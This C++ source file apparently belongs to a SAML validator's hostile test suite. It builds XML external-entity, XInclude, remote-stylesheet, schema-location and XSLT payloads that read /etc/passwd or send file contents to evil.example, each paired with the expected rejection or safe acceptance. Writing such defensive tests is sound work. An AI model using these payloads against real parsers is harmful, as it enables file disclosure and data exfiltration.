#include "hostile/attacks/outside_references.h"

#include "hostile/attacks/provider.h"
#include "hostile/attacks/refusals.h"
#include "hostile/attacks/stolen_signature.h"

namespace Saml::Attacks {
namespace {

using Forge::Replaced;

/// A genuine token in which a name is empty, so that an entity can be all of it.
struct Bait {
    Forge::TokenSpec spec;
    std::string token;
};

const Bait& GenuineBait() {
    static const Bait bait = [] {
        Bait made;
        made.spec = Provider::CustomerSpec();
        made.spec.attributes[2].values = {""};
        made.token = Replaced(Provider::Signed(made.spec), "<saml:AttributeValue/>",
                              "<saml:AttributeValue></saml:AttributeValue>");
        return made;
    }();
    return bait;
}

std::string InFirstName(const std::string& markup) {
    return Replaced(GenuineBait().token, ">Mallory<", ">Mal" + markup + "lory<");
}
std::string AsLastName(const std::string& markup) {
    return Replaced(GenuineBait().token, "<saml:AttributeValue></saml:AttributeValue>",
                    "<saml:AttributeValue>" + markup + "</saml:AttributeValue>");
}
std::string AsSubject(const std::string& markup) {
    return Replaced(GenuineBait().token, ">mallory@corp<", ">" + markup + "<");
}
std::string InCertificates(const std::string& markup) {
    return Replaced(GenuineBait().token, "</ds:X509Data>", markup + "</ds:X509Data>");
}

// Nothing stands for what is not fetched; the digest sees what the token says.
void AddEntities(std::vector<Attack>& attacks) {
    const std::string same = Accepted(GenuineBait().spec);
    for (const char* const uri :
         {"file:///etc/passwd", "/etc/passwd", "../../etc/passwd", "file:///dev/stdin",
          "http://127.0.0.1/", "https://evil.example/", "ftp://evil.example/x", "gopher://evil/",
          "jar:file:///etc/x!/y", "php://filter/read=convert.base64-encode/resource=/etc/passwd",
          "expect://id", "data:text/plain,evil", "//evil.example/share", "\\\\evil\\share"}) {
        const std::string declaration = std::string("<!ENTITY e SYSTEM '") + uri + "'>";
        attacks.push_back(
            {std::string("Entity.") + uri, WithDtd(declaration, InFirstName("&e;")), same});
        attacks.push_back(
            {std::string("Subset.") + uri,
             std::string("<!DOCTYPE saml:Assertion SYSTEM '") + uri + "'>" + GenuineBait().token,
             same});
        attacks.push_back(
            {std::string("ParameterEntity.") + uri,
             WithDtd(std::string("<!ENTITY % p SYSTEM '") + uri + "'> %p;", InFirstName("&sent;")),
             same});
    }
    const std::string declaration = "<!ENTITY e SYSTEM 'file:///etc/hostname'>";
    const std::string publicName =
        "PUBLIC '-//W3C//DTD XHTML 1.0 Strict//EN' "
        "'http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd'";
    attacks.push_back(
        {"Entity.AsAllOfAnOptionalText", WithDtd(declaration, AsLastName("&e;")), same});
    attacks.push_back(
        {"Entity.AsTheSubject", WithDtd(declaration, AsSubject("&e;")), NotOnlyText("NameID")});
    attacks.push_back(
        {"Entity.InTheSubject", WithDtd(declaration, AsSubject("mallory&e;@corp")), same});
    attacks.push_back({"Entity.InAnAttribute",
                       WithDtd(declaration, Replaced(GenuineBait().token, "urn:advisor", "&e;")),
                       NotParsed("reference to external entity in attribute")});
    attacks.push_back({"Entity.InAnotherEntity",
                       WithDtd(declaration + "<!ENTITY f 'x&e;y'>", InFirstName("&f;")),
                       RefusedAsTampered()});
    attacks.push_back(
        {"Entity.AmongTheCertificates", WithDtd(declaration, InCertificates("&e;")), same});
    attacks.push_back({"Entity.Unparsed",
                       WithDtd("<!NOTATION n SYSTEM 'file:///bin/sh'>"
                               "<!ENTITY e SYSTEM 'file:///etc/passwd' NDATA n>",
                               InFirstName("&e;")),
                       NotParsed("reference to binary entity")});
    attacks.push_back({"Entity.UnparsedAndUnused",
                       WithDtd("<!NOTATION n SYSTEM 'file:///bin/sh'>"
                               "<!ENTITY e SYSTEM 'file:///etc/passwd' NDATA n>",
                               GenuineBait().token),
                       same});
    attacks.push_back({"Subset.Public",
                       "<!DOCTYPE saml:Assertion " + publicName + ">" + GenuineBait().token, same});
    attacks.push_back({"Subset.WhichMayDeclareAnything",
                       "<!DOCTYPE saml:Assertion SYSTEM 'file:///etc/passwd' [<!ENTITY e 'x'>]>" +
                           InFirstName("&sent;"),
                       same});
}

// A file's content as a part of the address that is fetched next.
void AddExfiltration(std::vector<Attack>& attacks) {
    const std::string same = Accepted(GenuineBait().spec);
    attacks.push_back({"Exfiltration.InTheInternalSubset",
                       WithDtd("<!ENTITY % f SYSTEM 'file:///etc/passwd'><!ENTITY % all \"<!ENTITY "
                               "&#37; send SYSTEM 'http://evil.example/?%f;'>\">%all;%send;",
                               GenuineBait().token),
                       NotParsed("illegal parameter entity reference")});
    attacks.push_back({"Exfiltration.ByARemoteSubset",
                       WithDtd("<!ENTITY % f SYSTEM 'file:///etc/passwd'>"
                               "<!ENTITY % r SYSTEM 'http://evil.example/x.dtd'>%r;%send;",
                               InFirstName("&sent;")),
                       same});
    attacks.push_back({"Exfiltration.ByDeferredReferences",
                       WithDtd("<!ENTITY % f SYSTEM 'file:///etc/passwd'><!ENTITY % all \"<!ENTITY "
                               "send SYSTEM 'http://evil.example/?&#37;f;'>\">%all;",
                               InFirstName("&send;")),
                       same});
}

void AddOtherStandards(std::vector<Attack>& attacks) {
    const std::string same = Accepted(GenuineBait().spec);
    const std::string& token = GenuineBait().token;
    const std::string include =
        "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\" "
        "parse=\"text\"/>";
    const std::string name = "<ds:X509SubjectName ";
    attacks.insert(
        attacks.end(),
        {{"XInclude.InTheSubject", AsSubject("mallory@corp" + include), NotOnlyText("NameID")},
         {"XInclude.AsAnAttributeValue", AsLastName(include), NotOnlyText("AttributeValue")},
         {"XInclude.InTheAdvice", Replaced(token, "<saml:Advice>", "<saml:Advice>" + include),
          NotFound("RSAAdvice")},
         {"XInclude.AmongTheCertificates", InCertificates(include), same},
         {"XInclude.AsTheRoot", include, NotFound("Assertion")},
         {"StyleSheet",
          "<?xml-stylesheet href='http://evil.example/x.xsl' type='text/xsl'?>" + token, same},
         {"Model", "<?xml-model href='http://evil.example/x.rng'?>" + token, same},
         {"Catalog", "<?oasis-xml-catalog catalog='http://evil.example/x.cat'?>" + token, same},
         {"SchemaLocation.OfTheAssertion",
          Replaced(token, "<saml:Assertion ",
                   "<saml:Assertion xsi:schemaLocation='urn:x http://evil.example/x.xsd' "),
          UnexpectedAttributes("Assertion")},
         {"SchemaLocation.OfARestriction",
          Replaced(token, "<saml:AudienceRestriction>",
                   "<saml:AudienceRestriction xsi:schemaLocation='urn:x http://evil.example/x'>"),
          RefusedAsTampered()},
         {"SchemaLocation.AmongTheCertificates",
          InCertificates(name + "xsi:noNamespaceSchemaLocation='file:///etc/passwd'/>"), same},
         {"XmlBase.AmongTheCertificates",
          InCertificates(name + "xml:base='http://evil.example/'>" + include +
                         "</ds:X509SubjectName>"),
          same},
         {"RetrievalMethod.InKeyInfo",
          Replaced(token, "</ds:X509Data>",
                   "</ds:X509Data><ds:RetrievalMethod URI='http://evil.example/key'/>"),
          RefusedSignatureSyntax("Unexpected extra element(s) after <X509Data>")},
         {"RetrievalMethod.InsteadOfCertificates",
          Replaced(token, "<ds:X509Data>",
                   "<ds:RetrievalMethod URI='http://evil.example/key'/><ds:X509Data>"),
          RefusedSignatureSyntax("Expected element 'X509Data' not found.")},
         {"RetrievalMethod.AmongTheCertificates",
          InCertificates("<ds:RetrievalMethod URI='http://evil.example/key'/>"), same},
         {"Reference.ToAFile", Replaced(token, "URI=\"#_genuine\"", "URI=\"file:///etc/passwd\""),
          RefusedAsUncovered()},
         {"Reference.ToTheWorld",
          Replaced(token, "URI=\"#_genuine\"", "URI=\"http://evil.example/\""),
          RefusedAsUncovered()},
         {"Transform.ByAStyleSheet",
          Replaced(token, "<ds:Transforms>",
                   "<ds:Transforms><ds:Transform Algorithm='http://www.w3.org/TR/1999/"
                   "REC-xslt-19991116'><xsl:copy-of xmlns:xsl='http://www.w3.org/1999/XSL/"
                   "Transform' select=\"document('file:///etc/passwd')\"/></ds:Transform>"),
          RefusedSignatureSyntax("Unsupported transformation algorithm: "
                                 "http://www.w3.org/TR/1999/REC-xslt-19991116")}});
}

}  // namespace

std::vector<Attack> OutsideReferences() {
    std::vector<Attack> attacks;
    AddEntities(attacks);
    AddExfiltration(attacks);
    AddOtherStandards(attacks);
    return attacks;
}

}  // namespace Saml::Attacks
